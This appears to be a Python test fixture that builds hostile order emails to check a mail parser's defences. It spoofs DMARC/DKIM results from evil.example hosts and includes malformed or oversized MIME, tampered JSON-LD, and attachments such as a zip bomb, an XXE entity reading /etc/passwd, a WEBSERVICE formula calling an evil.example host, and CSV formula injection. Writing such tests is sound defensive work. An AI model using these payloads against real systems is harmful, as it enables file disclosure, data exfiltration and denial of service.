"""Mails of those who mean harm, by name: each says to be of a declared sender, and none of them is an order to take."""

import io
import json
import zipfile
from collections.abc import Callable, Iterator
from typing import Any

import xlsxwriter

from tests.mails import OURS, letter, markup, order_mail, sent, shown

EAST = "desk@east.example"
EAST_PASSED = f"{OURS}; dmarc=pass header.from=east.example"
HEADER = "Order,Date,SKU,Qty,Price\n"
_LINES = (("MUG", 2, "4.50"),)


def hostile_mails() -> Iterator[tuple[str, bytes]]:
    """Sixty of them."""
    for make in (_spoofed, _malformed, _oversized, _strange_markup, _told_twice, _odd_texts, _files):
        yield from make()


def sheet_mail(number: str, name: str, raw: bytes, *, results: str = EAST_PASSED) -> bytes:
    """A mail with a table attached."""
    message = letter(EAST, number=number, results=results)
    message.set_content("Our order is attached.\n")
    message.add_attachment(raw, maintype="application", subtype="octet-stream", filename=name)
    return sent(message)


def _spoofed() -> Iterator[tuple[str, bytes]]:
    passes = "dmarc=pass header.from=north.example"
    verdicts = (
        "", f"mx.evil.example; {passes}", f"{OURS}; dmarc=fail header.from=north.example", f"{OURS}; dmarc=none",
        f"{OURS}; dkim=pass header.d=evil.example", f"{OURS}; dkim=pass header.d=north.example.evil.example",
        f"{OURS}; spf=pass ({passes})",
        f"{OURS}.evil.example; {passes}", f"{OURS}; x-dmarc=pass header.from=north.example", f"evil; a={OURS}; {passes}",
    )  # fmt: skip
    for number, results in enumerate(verdicts):
        yield f"spoofed {number}", order_mail(f"SPOOF-{number}", results=results)
    two = order_mail("SPOOF-TWO")
    yield "two senders", two.replace(b"From: ", b"From: eve@evil.example\r\nFrom: ", 1)
    yield "one sender in another's name", two.replace(b"Buying <buying@north.example>", b'"buying@north.example" <eve@north.example>', 1)
    yield "for somebody else", order_mail("SPOOF-TO").replace(b"To: orders@example.com", b"To: bob@example.com")


def _malformed() -> Iterator[tuple[str, bytes]]:
    good = order_mail("BENT")
    yield "cut in the middle", good[: 2 * len(good) // 3]
    yield "without its last boundary", good.replace(b"--\r\n", b"")
    yield "without any boundary", good.replace(b"\r\n--", b"\r\n==")
    yield "without a boundary's name", good.replace(b"boundary=", b"bound=")
    yield "NUL in the body", good.replace(b"Order BENT", b"Order \x00BENT")
    yield "NUL in a header", good.replace(b"Subject: Order", b"Subject: \x00Order")
    yield "headers alone", good.split(b"\r\n\r\n")[0] + b"\r\n\r\n"
    yield "an empty body in base64", good.replace(b"Content-Transfer-Encoding: 7bit", b"Content-Transfer-Encoding: base64")
    wrong = letter(number="WRONG")
    wrong.set_content(f"<p>{'x' * 50}</p>", subtype="html", cte="base64")
    yield "base64 that is none", sent(wrong).replace(b"PHA+", b"P*A+")
    for charset in ("utf-7", "rot13", "zlib", "punycode", "utf-8"):
        told = letter(number="CHARSET")
        told.set_content("Grüße", subtype="html", charset="latin-1")
        yield f"not in {charset}, as it says", sent(told).replace(b"iso-8859-1", charset.encode())


def _oversized() -> Iterator[tuple[str, bytes]]:
    good = order_mail("BIG")
    yield "nested to death", _nested(200)
    yield "nested and more than that", _nested(5_000)
    yield "nested ten deep", _nested(10)
    for size in (70_000, 2_000_000):
        yield f"{size} bytes of headers", good.replace(b"Subject:", b"X-Long: " + b"y" * size + b"\r\nSubject:")
    yield "headers in a hundred thousand lines", good.replace(b"Subject:", b"X-A: b\r\n" * 100_000 + b"Subject:")
    yield "twenty thousand parts", good.replace(b"\r\n--", b"\r\n--x\r\n" * 20_001 + b"\r\n--", 1)
    yield "more bytes than a mail may have", good + b"z\r\n" * 5_000_000
    yield "one endless line", good.replace(b"Order BIG", b"w" * 3_000_000)


def _nested(depth: int) -> bytes:
    message = letter(number=f"NEST-{depth}")
    parts = "".join(f'Content-Type: multipart/mixed; boundary="b{level}"\r\n\r\n--b{level}\r\n' for level in range(depth))
    return sent(message).rstrip(b"\r\n") + b"\r\n" + parts.encode() + b"\r\ntext\r\n"


def _strange_markup() -> Iterator[tuple[str, bytes]]:
    good = json.dumps(markup("ODD", _LINES))
    changes: dict[str, Callable[[str], str]] = {
        "NaN for a price": lambda text: text.replace('"4.50"', "NaN"),
        "a price without end": lambda text: text.replace('"4.50"', '"1E+999999"'),
        "a key twice": lambda text: text.replace('"orderNumber":', '"orderNumber": "OTHER", "orderNumber":'),
        "lists without end": lambda text: text[:-1] + ', "deep": ' + "[" * 20_000 + "]" * 20_000 + "}",
        "somebody else's context": lambda text: text.replace("https://schema.org", "https://evil.example/context", 1),
        "a context of its own": lambda text: text.replace('"https://schema.org"', '{"price": "https://evil.example/"}', 1),
        "two currencies": lambda text: text.replace('"EUR"', '"USD"', 1),
        "a sum that is none": lambda text: text.replace('"9.00"', '"0.01"'),
        "pieces below zero": lambda text: text.replace('"value": 2', '"value": -2'),
        "a cut script": lambda text: text[: len(text) // 2],
        "no number": lambda text: text.replace('"orderNumber": "ODD", ', ""),
    }
    for name, change in changes.items():
        message = letter(number="ODD")
        message.set_content(f'<script type="application/ld+json">{change(good)}</script>{shown("ODD", _LINES)}', subtype="html")
        yield name, sent(message)


def _told_twice() -> Iterator[tuple[str, bytes]]:
    one, other = (json.dumps(markup("TWICE", ((("MUG", pieces, "4.50")),))) for pieces in (2, 20))
    message = letter(number="TWICE")
    scripts = "".join(f'<script type="application/ld+json">{each}</script>' for each in (one, other))
    message.set_content(scripts + shown("TWICE", _LINES), subtype="html")
    yield "one order in two ways", sent(message)


def _odd_texts() -> Iterator[tuple[str, bytes]]:
    told = letter("shop@west.example", number="W", results=f"{OURS}; dmarc=pass header.from=west.example")
    told.set_content("Order no: W-1\nOrder no: W-2\nPlaced: 2030-04-30 18:00\n3 x CUP at 2.00\nTotal: 6.00 EUR\n")
    yield "two numbers in one text", sent(told)


def _files() -> Iterator[tuple[str, bytes]]:
    plain = _workbook()
    files: dict[str, tuple[str, bytes]] = {
        "zip bomb": ("order.xlsx", _bomb()),
        "external entity": ("order.xlsx", _with(plain, "xl/sharedStrings.xml", _ENTITIES)),
        "formula": ("order.xlsx", _workbook(formula="=1+1")),
        "formula that calls out": ("order.xlsx", _workbook(formula='=WEBSERVICE("http://evil.example/")')),
        "macro": ("order.xlsm", _with(plain, "xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + b"macro" * 100)),
        "locked workbook": ("order.xlsx", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2_000),
        "formula in text": ("order.csv", f"{HEADER}E-X,2030-05-01,MUG,=1+1,4.50\n".encode()),
        "NUL in a table": ("order.csv", f"{HEADER}E-X,2030-05-01,M\x00UG,1,4.50\n".encode()),
        "table that is none": ("order.csv", b"\xff\xfe\x00\x00\x01" * 50),
        "no column": ("order.csv", b"a,b,c\n1,2,3\n"),
        "no file at all": ("order.pdf", b"%PDF-1.4"),
    }
    for number, (name, (file, raw)) in enumerate(files.items()):
        yield name, sheet_mail(f"FILE-{number}", file, raw)


_ENTITIES = (
    b'<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;&a;&a;">]>'
    b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><si><t>&b;</t></si></sst>'
)


def _workbook(formula: str = "") -> bytes:
    raw = io.BytesIO()
    book: Any = xlsxwriter.Workbook(raw)
    sheet = book.add_worksheet()
    for row, cells in enumerate((HEADER.strip().split(","), ["E-X", "2030-05-01", "MUG", "1", "4.50"])):
        for column, cell in enumerate(cells):
            sheet.write_string(row, column, cell)
    if formula:
        sheet.write_formula(1, 3, formula, value=1)
    book.close()
    return raw.getvalue()


def _with(book: bytes, name: str, content: bytes) -> bytes:
    raw = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(book)) as old, zipfile.ZipFile(raw, "w", zipfile.ZIP_DEFLATED) as new:
        for each in old.namelist():
            if each != name:
                new.writestr(each, old.read(each))
        new.writestr(name, content)
    return raw.getvalue()


def _bomb() -> bytes:
    return _with(_workbook(), "xl/worksheets/sheet1.xml", b"<worksheet>" + b" " * 300_000_000)
